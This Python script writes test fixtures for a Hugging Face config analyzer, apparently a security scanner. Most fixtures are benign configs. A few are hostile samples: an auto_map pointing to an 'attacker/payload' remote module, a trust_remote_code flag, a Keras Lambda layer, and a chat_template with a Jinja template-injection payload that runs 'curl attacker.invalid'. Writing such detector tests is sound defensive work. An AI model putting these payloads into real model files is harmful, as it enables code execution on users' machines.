#!/usr/bin/python3
"""Writes the Hugging Face config analyzer's test files (run with /usr/bin/python3).

Each file sits in its own folder because the analyzer finds configs by name (config.json,
tokenizer_config.json...). Shapes follow transformers: auto_map values are "module.Class",
a [slow, fast] pair for AutoTokenizer, or "org/repo--module.Class" for code from another
repository (dynamic_module_utils.get_class_from_dynamic_module splits on "--").
"""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))


def write(folder, name, text):
    path = os.path.join(HERE, folder, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as out:
        out.write(text)


def dump(value):
    return json.dumps(value, indent=2) + "\n"


def main():
    write("plain", "config.json", dump({
        "architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8,
        "num_attention_heads": 2, "num_hidden_layers": 1, "vocab_size": 30}))
    write("auto_map_local", "config.json", dump({
        "model_type": "custom", "architectures": ["CustomModel"],
        "auto_map": {"AutoConfig": "configuration_custom.CustomConfig",
                     "AutoModel": "modeling_custom.CustomModel"}}))
    write("auto_map_local", "configuration_custom.py",
          "from transformers import PretrainedConfig\n\n\n"
          "class CustomConfig(PretrainedConfig):\n    model_type = 'custom'\n")
    write("auto_map_remote", "config.json", dump({
        "model_type": "custom",
        "auto_map": {"AutoModel": "attacker/payload--modeling_evil.EvilModel"}}))
    write("tokenizer_pair", "tokenizer_config.json", dump({
        "tokenizer_class": "CustomTokenizer",
        "auto_map": {"AutoTokenizer": ["tokenization_custom.CustomTokenizer", None]}}))
    write("tokenizer_legacy_list", "tokenizer_config.json", dump({
        "auto_map": ["tokenization_custom.CustomTokenizer",
                     "tokenization_custom_fast.CustomTokenizerFast"]}))
    write("custom_pipeline", "config.json", dump({
        "model_type": "bert",
        "custom_pipelines": {"pair-classification": {
            "impl": "custom_pipeline.PairClassificationPipeline",
            "pt": ["AutoModelForSequenceClassification"], "tf": [], "type": "text"}}}))
    write("trust_remote_code", "config.json", dump({
        "model_type": "bert", "loader_kwargs": {"trust_remote_code": True}}))
    write("dotted_tokenizer_class", "tokenizer_config.json", dump({
        "tokenizer_class": "tokenization_x.XTokenizer"}))
    write("chat_template_clean", "tokenizer_config.json", dump({
        "tokenizer_class": "LlamaTokenizer",
        "chat_template": "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n"
                         "{% endfor %}"}))
    write("chat_template_ssti", "tokenizer_config.json", dump({
        "chat_template": [
            {"name": "default", "template": "{{ messages[0]['content'] }}"},
            {"name": "tool_use", "template":
                "{{ ''.__class__.__mro__[1].__subclasses__()[0]('curl attacker.invalid') }}"}]}))
    write("duplicate_auto_map", "config.json",
          '{"model_type": "custom",\n "auto_map": {"AutoModel": "modeling_a.A",\n'
          '              "AutoModel": "modeling_b.B"}}\n')
    write("malformed", "config.json", '{"model_type": "bert", "hidden_size": 8,\n')
    write("bad_auto_map", "config.json", dump({"auto_map": {"AutoModel": 42,
                                                            "AutoConfig": "no_dot"}}))
    write("keras", "config.json", dump({
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": []}, "keras_version": "2.13.1"}))
    write("keras_lambda", "config.json", dump({
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [
            {"class_name": "Lambda", "config": {
                "name": "lambda", "function": ["4wEAAAAAAAAA", None, None],
                "function_type": "lambda"}}]}}))
    write("generation", "generation_config.json", dump({
        "bos_token_id": 1, "eos_token_id": 2, "max_new_tokens": 32}))


if __name__ == "__main__":
    main()
